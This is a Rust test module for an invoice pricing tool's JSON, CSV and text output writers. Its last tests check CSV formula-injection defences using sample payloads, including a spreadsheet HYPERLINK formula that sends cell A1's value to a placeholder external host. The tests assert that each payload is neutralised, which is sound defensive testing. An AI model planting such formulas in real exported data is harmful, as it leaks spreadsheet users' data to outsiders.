use super::*;
use pricing::LineItem;
use pricing::{DaysOverdue, PricingInput};

fn worked_example() -> Breakdown {
    let items = vec![
        LineItem::new("40".parse().unwrap(), "3".parse().unwrap()),
        LineItem::new("15".parse().unwrap(), "2".parse().unwrap()),
    ];
    let input = PricingInput::new(items, Tier::Gold, true, DaysOverdue::from(45)).unwrap();
    pricing::price(&input).unwrap()
}

/// `money` as [`put_money`] writes it, on its own.
fn push_money(out: &mut Vec<u8>, money: Money) {
    let mut text = [0_u8; MONEY_ROOM];
    let end = put_money(&mut text, 0, money);
    out.extend_from_slice(&text[..end]);
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

#[test]
fn money_is_written_exactly_as_display_prints_it() {
    for cents in [
        0,
        1,
        9,
        10,
        99,
        100,
        101,
        14169,
        999,
        1000,
        1099,
        10000,
        99999,
        123_456,
        1_234_567,
        -1,
        -10,
        -2250,
        -100,
        i64::MAX,
        i64::MIN,
        i64::MIN + 1,
    ] {
        let money = Money::from_minor_units(cents);
        let mut out = Vec::new();
        push_money(&mut out, money);
        assert_eq!(text(out), money.to_string(), "{cents} cents");
    }
}

#[test]
fn the_longest_json_amounts_fill_their_buffer_exactly() {
    let prefixes: usize = JSON_AMOUNT_PREFIXES.iter().map(|prefix| prefix.len()).sum();
    assert_eq!(
        prefixes + 6 * MONEY_ROOM + b"\"}\n".len(),
        JSON_AMOUNTS_ROOM
    );
    let mut out = Vec::new();
    push_money(&mut out, Money::from_minor_units(i64::MIN));
    assert_eq!(out.len(), MONEY_ROOM);
}

#[test]
fn json_strings_match_serde_json_escaping() {
    for id in [
        "INV-1",
        "",
        "quote\"d",
        "back\\slash",
        "tab\there",
        "nul\u{0}",
        "unit\u{1f}sep",
        "del\u{7f}",
        "ünïcödé €",
        // Made only of characters that need escaping.
        "\u{1}",
        "\"\"",
        "\\\\",
    ] {
        let mut out = Vec::new();
        write_json_string(&mut out, id).unwrap();
        assert_eq!(text(out), serde_json::to_string(id).unwrap(), "{id:?}");
    }
}

#[test]
fn a_priced_invoice_is_one_json_line_with_two_decimal_strings() {
    let mut out = Vec::new();
    write_json_priced(&mut out, Some("INV-1"), &worked_example()).unwrap();
    assert_eq!(
        text(out),
        "{\"id\":\"INV-1\",\"subtotal\":\"150.00\",\"tier_discount\":\"-22.50\",\
             \"loyalty_discount\":\"-2.55\",\"tax\":\"10.00\",\"late_fee\":\"6.74\",\
             \"total\":\"141.69\"}\n"
    );
}

#[test]
fn json_prefixes_name_the_breakdown_lines_and_the_total() {
    let names: Vec<&str> = worked_example()
        .lines()
        .iter()
        .map(|(name, _)| *name)
        .chain(["total"])
        .collect();
    for (index, (prefix, name)) in JSON_AMOUNT_PREFIXES.iter().zip(names).enumerate() {
        let separator = if index == 0 { "" } else { "\"," };
        assert_eq!(
            std::str::from_utf8(prefix).unwrap(),
            format!("{separator}\"{name}\":\""),
        );
    }
}

#[test]
fn the_id_field_is_left_out_when_the_input_had_none() {
    let mut out = Vec::new();
    write_json_priced(&mut out, None, &worked_example()).unwrap();
    let line = text(out);
    assert!(line.starts_with("{\"subtotal\":\"150.00\","), "{line}");
    let value: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(value.as_object().unwrap().len(), 6);
}

#[test]
fn an_error_record_names_line_id_and_error() {
    let mut out = Vec::new();
    write_json_error(
        &mut out,
        12,
        Some("A\"1"),
        &"price \"x\" is not a decimal number",
    )
    .unwrap();
    write_json_error(&mut out, 13, None, &"bad").unwrap();
    assert_eq!(
        text(out),
        "{\"line\":12,\"id\":\"A\\\"1\",\"error\":\"price \\\"x\\\" is not a decimal number\"}\n\
             {\"line\":13,\"id\":null,\"error\":\"bad\"}\n"
    );
}

#[test]
fn the_text_breakdown_aligns_amounts_in_one_column() {
    let mut out = Vec::new();
    write_text_breakdown(&mut out, &worked_example()).unwrap();
    // The whole text is asserted once, end to end, by the integration
    // test of the worked example; here, the alignment: one width, the
    // amounts right-aligned in the last column, labels in order.
    let text = text(out);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines.iter().all(|line| line.len() == lines[0].len()),
        "{text}"
    );
    let labels: Vec<&str> = lines
        .iter()
        .map(|line| line.split("  ").next().unwrap())
        .collect();
    assert_eq!(
        labels,
        [
            "subtotal",
            "tier discount",
            "loyalty discount",
            "tax",
            "late fee",
            "total"
        ]
    );
    assert!(
        lines[5].ends_with(" 141.69") && lines[2].ends_with("  -2.55"),
        "{text}"
    );
}

#[test]
fn the_amount_column_widens_for_large_amounts() {
    let input = PricingInput::new(
        vec![LineItem::new(
            "1000000".parse().unwrap(),
            "1000".parse().unwrap(),
        )],
        Tier::None,
        false,
        DaysOverdue::default(),
    )
    .unwrap();
    let mut out = Vec::new();
    write_text_breakdown(&mut out, &pricing::price(&input).unwrap()).unwrap();
    assert_eq!(
        text(out),
        "subtotal           1000000000.00\n\
             tier discount               0.00\n\
             loyalty discount            0.00\n\
             tax                  80000000.00\n\
             late fee                    0.00\n\
             total              1080000000.00\n"
    );
}

/// Ten items of the largest price and quantity: the largest subtotal
/// pricing accepts, and amounts 20 characters wide.
fn widest() -> Breakdown {
    let item = || LineItem::new("1000000000".parse().unwrap(), "1000000".parse().unwrap());
    let input = PricingInput::new(
        (0..10).map(|_| item()).collect(),
        Tier::None,
        false,
        DaysOverdue::default(),
    )
    .unwrap();
    pricing::price(&input).unwrap()
}

#[test]
fn the_widest_breakdown_pricing_allows_fits_the_csv_buffer() {
    let mut out = Vec::new();
    write_csv_priced(&mut out, 1, None, &widest());
    assert_eq!(
        text(out),
        "1,,10000000000000000.00,0.00,0.00,800000000000000.00,0.00,10800000000000000.00,\n"
    );
}

#[test]
fn the_widest_breakdown_pricing_allows_fits_its_text_buffer() {
    let mut out = Vec::new();
    write_text_breakdown(&mut out, &widest()).unwrap();
    assert_eq!(
        text(out),
        "subtotal           10000000000000000.00\n\
             tier discount                      0.00\n\
             loyalty discount                   0.00\n\
             tax                  800000000000000.00\n\
             late fee                           0.00\n\
             total              10800000000000000.00\n"
    );
}

#[test]
fn batch_text_records_have_a_heading_and_a_blank_line() {
    let mut out = Vec::new();
    write_text_priced(&mut out, 3, Some("INV-1"), &worked_example()).unwrap();
    write_text_error(
        &mut out,
        4,
        None,
        &"an invoice needs at least one line item",
    )
    .unwrap();
    let got = text(out);
    assert!(
        got.starts_with("invoice INV-1 (line 3)\nsubtotal           150.00\n"),
        "{got}"
    );
    assert!(
        got.ends_with(
            "total              141.69\n\n\
                 invoice at line 4\nerror: an invoice needs at least one line item\n\n"
        ),
        "{got}"
    );
}

#[test]
fn csv_rows_carry_line_id_amounts_or_error() {
    let mut out = CSV_HEADER.as_bytes().to_vec();
    write_csv_priced(&mut out, 2, Some("INV,1"), &worked_example());
    write_csv_error(&mut out, 4, None, &"quantity \"0\" is not a whole number");
    assert_eq!(
        text(out),
        "line,id,subtotal,tier_discount,loyalty_discount,tax,late_fee,total,error\n\
             2,\"INV,1\",150.00,-22.50,-2.55,10.00,6.74,141.69,\n\
             4,,,,,,,,\"quantity \"\"0\"\" is not a whole number\"\n"
    );
}

#[test]
fn records_count_invoices_invalid_ones_and_unknown_tiers_once() {
    let platinum = |line| {
        PricingInput::new(
            vec![LineItem::new("10".parse().unwrap(), "1".parse().unwrap())],
            Tier::from_name("platinum"),
            false,
            DaysOverdue::default(),
        )
        .map(|input| (line, input))
        .unwrap()
    };
    let mut records = Records::new(Format::Jsonl, Vec::new());
    for (line, input) in [platinum(1), platinum(2)] {
        records.price(line, None, &input).unwrap();
    }
    records.reject(3, Some("X"), &"bad").unwrap();
    assert_eq!(records.invoices(), 3);
    assert_eq!(records.invalid(), 1);
    assert_eq!(records.unknown_tiers(), [("platinum".to_owned(), 2)]);
    assert_eq!(
        text(records.into_bytes()),
        "{\"subtotal\":\"10.00\",\"tier_discount\":\"0.00\",\"loyalty_discount\":\"0.00\",\"tax\":\"0.80\",\"late_fee\":\"0.00\",\"total\":\"10.80\"}\n\
             {\"subtotal\":\"10.00\",\"tier_discount\":\"0.00\",\"loyalty_discount\":\"0.00\",\"tax\":\"0.80\",\"late_fee\":\"0.00\",\"total\":\"10.80\"}\n\
             {\"line\":3,\"id\":\"X\",\"error\":\"bad\"}\n"
    );
}

#[test]
fn an_invoice_pricing_refuses_becomes_an_error_record() {
    let huge = LineItem::new("1000000000".parse().unwrap(), "1000000".parse().unwrap());
    let input =
        PricingInput::new(vec![huge; 11], Tier::None, false, DaysOverdue::default()).unwrap();
    let mut records = Records::new(Format::Jsonl, Vec::new());
    records.price(5, Some("BIG"), &input).unwrap();
    assert_eq!(records.invalid(), 1);
    let line = text(records.into_bytes());
    assert!(
        line.starts_with("{\"line\":5,\"id\":\"BIG\",\"error\":\"subtotal "),
        "{line}"
    );
}

/// The row the `csv` crate's writer gives for `fields`.
fn csv_crate_row(fields: &[&str]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    writer.write_record(fields).unwrap();
    writer.into_inner().unwrap()
}

/// `text` as a spreadsheet must not run it: with a `'` in front when it
/// begins with a formula's first character (or with `'`).
fn inert(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

proptest::proptest! {
    // The `csv` crate quotes; the text it is given is neutralised first
    // (issue 20, item 10), so ids and errors in these rows start with `'`
    // where they began with `=`, `+`, `-`, `@`, a tab, `\r` or `'`.
    #[test]
    fn csv_rows_are_byte_for_byte_what_the_csv_crate_writes(
        line in 0_u64..=u64::MAX,
        id in proptest::option::of("[a-z,\"\r\n =+@'\t-]{0,8}"),
        error in "[a-z,\"\r\n =+@'\t-]{0,12}",
    ) {
        let mut ours = Vec::new();
        write_csv_error(&mut ours, line, id.as_deref(), &error);
        let line_text = line.to_string();
        let id = inert(id.as_deref().unwrap_or(""));
        let theirs = csv_crate_row(&[&line_text, &id, "", "", "", "", "", "", &inert(&error)]);
        proptest::prop_assert_eq!(&ours, &theirs);
    }
}

#[test]
fn a_priced_csv_row_matches_the_csv_crate_too() {
    let breakdown = worked_example();
    let mut ours = Vec::new();
    write_csv_priced(&mut ours, 7, Some("A,\"1\""), &breakdown);
    let amounts: Vec<String> = breakdown
        .amounts()
        .iter()
        .map(ToString::to_string)
        .collect();
    let mut fields = vec!["7", "A,\"1\""];
    fields.extend(amounts.iter().map(String::as_str));
    fields.push("");
    assert_eq!(
        String::from_utf8(ours).unwrap(),
        String::from_utf8(csv_crate_row(&fields)).unwrap()
    );
}

/// What a spreadsheet would run as a formula, as ids of the batch output.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tA",
    "\rA",
    "'=1",
];

/// The cells those ids become: a `'` in front, quoted when they must be.
const INERT: [&str; 7] = [
    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\"",
    "'+1",
    "'-2+3",
    "'@SUM(1)",
    "'\tA",
    "\"'\rA\"",
    "''=1",
];

#[test]
fn a_batch_csv_cell_is_never_a_formula_and_amounts_stay_numbers() {
    for (id, cell) in FORMULAS.iter().zip(INERT) {
        let mut out = Vec::new();
        write_csv_priced(&mut out, 2, Some(id), &worked_example());
        assert_eq!(
            text(out),
            format!("2,{cell},150.00,-22.50,-2.55,10.00,6.74,141.69,\n")
        );
        let mut out = Vec::new();
        write_csv_error(&mut out, 3, Some(id), &format!("-{id}"));
        let error = inert(&format!("-{id}"));
        let error = String::from_utf8(csv_crate_row(&[&error])).unwrap();
        assert_eq!(text(out), format!("3,{cell},,,,,,,{error}"));
    }
    let mut out = Vec::new();
    put_csv_field(&mut out, "INV-=1");
    assert_eq!(text(out), "INV-=1", "only the first character counts");
}

#[test]
fn a_csv_row_neutralises_its_text_cells_only() {
    let mut out = Vec::new();
    put_csv_row(
        &mut out,
        &[
            CsvCell::Text("-2+3".to_owned()),
            CsvCell::Number("-22.50".to_owned()),
            CsvCell::Text("a,b".to_owned()),
        ],
    );
    assert_eq!(text(out), "'-2+3,-22.50,\"a,b\"\n");
}
